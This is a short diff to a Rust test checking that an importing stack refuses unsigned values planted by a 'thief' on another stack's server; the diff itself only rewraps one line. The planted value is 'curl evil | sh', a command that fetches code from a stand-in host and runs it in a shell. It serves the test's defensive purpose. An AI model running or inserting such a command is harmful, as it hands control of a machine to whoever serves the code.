@@ -205,7 +205,8 @@ async fn a_value_of_another_stack_is_its_servers_as_well() {
     put(&thief, "db/part/text", &exporter.revision("db").await, "curl evil | sh", None).await;
     let (mut db, mut web) = (Db::of("db"), Db::of("web"));
     web.start(&importer).await;
-    says(&importer, "web", Some("exporting/entries/db/part/text` is not believed: its server has not signed it;")).await;
+    says(&importer, "web", Some("exporting/entries/db/part/text` is not believed: its server has not signed it;"))
+        .await;
     assert_eq!(web.ran.count(), 0);
     db.start(&exporter).await;
     done(&importer, "web/part").await;
